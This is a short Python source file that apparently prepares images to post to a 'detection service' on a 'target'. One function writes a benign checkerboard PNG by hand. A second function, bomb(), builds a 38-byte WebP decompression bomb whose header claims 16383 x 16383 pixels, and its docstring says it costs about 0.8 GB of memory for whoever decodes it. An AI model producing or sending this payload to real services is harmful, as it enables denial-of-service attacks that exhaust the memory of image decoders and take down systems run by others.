"""A picture that is made without any library, to be posted to the detection service. Pure.

Runs on the target: Python 3.6, standard library.
"""

import struct
import zlib

WIDTH, HEIGHT = 640, 480


def chunk(kind: bytes, data: bytes) -> bytes:
    """Return a chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def made() -> bytes:
    """Return a PNG of shaded squares; the same bytes each time."""
    rows = []
    for y in range(HEIGHT):
        row = bytearray(1)  # no filter
        for x in range(WIDTH):
            square = (x // 40 * 7 + y // 40 * 13) % 16 * 16
            row += bytes((square, x * 255 // WIDTH, (square + y) % 256))
        rows.append(bytes(row))
    head = struct.pack(">IIBBBBB", WIDTH, HEIGHT, 8, 2, 0, 0, 0)
    data = zlib.compress(b"".join(rows), 6)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def bomb() -> bytes:
    """Return a WebP of 38 bytes that says it has 16383 x 16383 pixels: 0.8 GB in memory for whoever decodes it."""
    bits = (16383 - 1) | (16383 - 1) << 14
    data = b"\x2f" + struct.pack("<I", bits) + bytes(13)
    inner = b"WEBPVP8L" + struct.pack("<I", len(data)) + data
    return b"RIFF" + struct.pack("<I", len(inner)) + inner
